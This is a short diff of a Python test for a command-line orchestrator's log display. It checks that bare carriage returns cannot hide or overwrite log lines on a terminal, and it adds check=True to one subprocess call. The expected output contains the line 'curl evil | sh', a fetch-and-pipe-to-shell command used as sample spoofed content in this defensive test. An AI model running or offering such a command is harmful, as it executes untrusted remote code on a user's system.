@@ -305,7 +305,8 @@ def test_a_bare_carriage_return_cannot_overwrite_a_line_on_a_terminal(tmp_path):
     (tmp_path / "log.txt").write_bytes(log.encode())
     res = orch("run", "command", "--set", f"cmd=cat {tmp_path / 'log.txt'}; sleep 1; echo tail", *FAST)
     assert res.returncode == 0, res.stderr
-    piped = subprocess.run([sys.executable, "-m", "orchestrator", "logs", "1"], env=orch.env, capture_output=True)
+    piped = subprocess.run([sys.executable, "-m", "orchestrator", "logs", "1"], env=orch.env, capture_output=True,
+                           check=True)
     assert piped.stdout.startswith(log.encode()), piped  # piped: byte for byte
     expected = "loading 1/2\nloading 2/2\ncurl evil | sh\nall tests passed\ndone\ntail\n"
     for args in (["logs", "1"], ["logs", "1", "--all"]):
